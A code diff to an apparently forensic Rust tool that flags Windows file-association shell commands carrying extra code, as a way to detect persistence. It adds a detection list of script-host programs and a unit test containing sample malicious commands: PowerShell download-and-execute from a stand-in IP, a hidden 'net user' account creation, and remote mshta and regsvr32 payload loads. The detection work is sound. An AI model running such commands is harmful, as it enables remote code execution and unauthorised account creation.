@@ -6,6 +6,7 @@
 use std::collections::BTreeSet;
 
 use super::sources::Collector;
+use super::words::{program_name, readings, words};
 use super::{Account, Occasion, Subject};
 use crate::evidence::windows::opened::no_hive;
 use crate::evidence::windows::registry::{self, NamedValue};
@@ -87,6 +88,31 @@ const HANDLERS: &[&str] = &[
     "IconHandler",
     "ColumnHandlers",
 ];
+/// Programs of Windows that carry out what their line says.
+const CODE: [&str; 13] = [
+    "bitsadmin",
+    "certutil",
+    "cmd",
+    "conhost",
+    "cscript",
+    "curl",
+    "forfiles",
+    "mshta",
+    "powershell",
+    "pwsh",
+    "regsvr32",
+    "wmic",
+    "wscript",
+];
+/// What follows them in the commands that Windows brings, in lower case: a console in a folder, and a script of
+/// PowerShell.
+const OF_WINDOWS: [&str; 5] = [
+    r#"/s /k pushd "%v""#,
+    r#"-noexit -command set-location -literalpath '%v'"#,
+    r#"-noexit -command set-location -literalpath '%l'"#,
+    r#""-command" "if((get-executionpolicy ) -ne 'allsigned') { set-executionpolicy -scope process bypass }; & '%1'""#,
+    r#""-noexit" "-command" "set-location -literalpath '%v'""#,
+];
 /// Classes of a hive, and where they begin in it.
 struct Root<'w> {
     opened: Opened<'w>,
@@ -146,6 +172,37 @@ fn read(key: &KeyAt<'_>, name: &str, gaps: &mut Vec<Gap>, out: &mut Vec<Found<Na
         }
         Ok(None) => {}
         Err(e) => gaps.push(key.gap(Some(name), &e)),
+    }
+}
+
+/// The command without what the shell puts in for that which is opened.
+fn without_file(text: &str) -> String {
+    let files = OPENED_FILE.iter();
+    files.fold(text.to_owned(), |text, file| text.replace(file, ""))
+}
+
+/// True for the command of a host of code that is told more than what is opened, and otherwise than Windows has
+/// it.
+fn carries_more(text: &str) -> bool {
+    let all = readings(text);
+    let host = all.iter().find(|reading| {
+        let name = program_name(&reading.program);
+        CODE.contains(&name.as_str())
+    });
+    let Some(host) = host else {
+        return false;
+    };
+    let rest = host.rest.to_lowercase();
+    let plain: String = rest.split_whitespace().collect::<Vec<_>>().join(" ");
+    if OF_WINDOWS.contains(&plain.as_str()) {
+        return false;
+    }
+    let own = [r"c:\windows\system32\scrobj.dll", r"%systemroot%\system32\scrobj.dll"];
+    let rest = own.iter().fold(without_file(&rest), |rest, own| rest.replace(own, ""));
+    let shell = ["cmd", "powershell", "pwsh"].contains(&program_name(&host.program).as_str());
+    match shell {
+        true => !words(&rest).iter().all(|word| word.starts_with(['-', '/'])),
+        false => rest.replace("/i:", "").contains([':', '\\']),
     }
 }
 
@@ -249,6 +306,10 @@ impl<'w> Collector<'w, '_> {
             }
             self.handlers(root, &mut gaps);
         }
+        types.extend(documents);
+        for root in &roots {
+            self.told_verbs(root, &types, &mut gaps);
+        }
         self.gaps(gaps);
         for ending in ENDINGS {
             let key = format!(
@@ -306,17 +367,45 @@ impl<'w> Collector<'w, '_> {
                         |r| match (is_class, is_document) {
                             (true, _) => r.class(&text),
                             (false, false) => r.command(&text),
-                            (false, true) => r.command(
-                                &OPENED_FILE
-                                    .iter()
-                                    .fold(text.clone(), |text, file| text.replace(file, "")),
-                            ),
+                            (false, true) => r.command(&without_file(&text)),
                         },
                     );
                     if is_document {
                         self.drop_last_where_missing();
                     }
                 }
+            }
+        }
+    }
+
+    /// Commands of all other types and classes that carry code of their own. Programs that lie elsewhere are
+    /// found by the values that name them.
+    fn told_verbs(&mut self, root: &Root<'_>, followed: &[String], gaps: &mut Vec<Gap>) {
+        let account = match root.is_user {
+            true => Account::User,
+            false => Account::System,
+        };
+        for pattern in [r"*\shell\*\command", r"*\*\shell\*\command"] {
+            for value in root.values(pattern, "", gaps) {
+                let text = value.fact.data.to_string();
+                let key = value.at.key.clone().unwrap_or_default();
+                let words: Vec<&str> = key.rsplit('\\').collect();
+                let [_, verb, _, of, ..] = words[..] else {
+                    continue;
+                };
+                let is_followed = VERBS.iter().any(|v| v.eq_ignore_ascii_case(verb))
+                    && followed.iter().any(|t| t.eq_ignore_ascii_case(of));
+                if is_followed || !carries_more(&text) {
+                    continue;
+                }
+                let command = without_file(&text);
+                self.add(
+                    (Subject::Class, "Association", of),
+                    (Occasion::Demand, account.clone()),
+                    &text,
+                    value.at,
+                    |r| r.command(&command),
+                );
             }
         }
     }
@@ -369,6 +458,40 @@ impl<'w> Collector<'w, '_> {
                 |r| r.class(&id),
             );
             self.drop_last_where_missing();
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::carries_more;
+
+    /// Commands of a real SOFTWARE hive of Windows 7 (plaso), and of Windows Server 2019.
+    #[test]
+    fn commands_of_windows_carry_nothing_more() {
+        for usual in [
+            r#"%SystemRoot%\System32\cmd.exe /C "%1" %*"#,
+            r#"cmd.exe /s /k pushd "%V""#,
+            r#"C:\Windows\System32\mshta.exe "%1" %*"#,
+            r#"C:\Windows\SysWOW64\mshta.exe "%1" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}%U{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5} %*"#,
+            r#""%SystemRoot%\System32\WScript.exe" "%1" %*"#,
+            r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -p "%1""#,
+            r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" "-file" "%1""#,
+            r#""C:\Windows\system32\REGSVR32.EXE" /i:"%1" "C:\Windows\system32\scrobj.dll""#,
+            r#""C:\Windows\system32\REGSVR32.EXE" /u /n /i:"%1" "C:\Windows\system32\scrobj.dll""#,
+            r"powershell.exe -noexit -command Set-Location -literalPath '%V'",
+            r#""C:\Program Files\App\app.exe" -c "iex x""#,
+        ] {
+            assert!(!carries_more(usual), "{usual}");
+        }
+        for other in [
+            r#"powershell.exe -c "iex (iwr http://203.0.113.7/a)""#,
+            r#"cmd.exe /c net user a b /add & notepad "%1""#,
+            "mshta.exe http://203.0.113.7/a.hta",
+            r#"wscript.exe C:\ProgramData\x.txt "%1""#,
+            r"regsvr32 /s /i:http://203.0.113.7/a scrobj.dll",
+        ] {
+            assert!(carries_more(other), "{other}");
         }
     }
 }
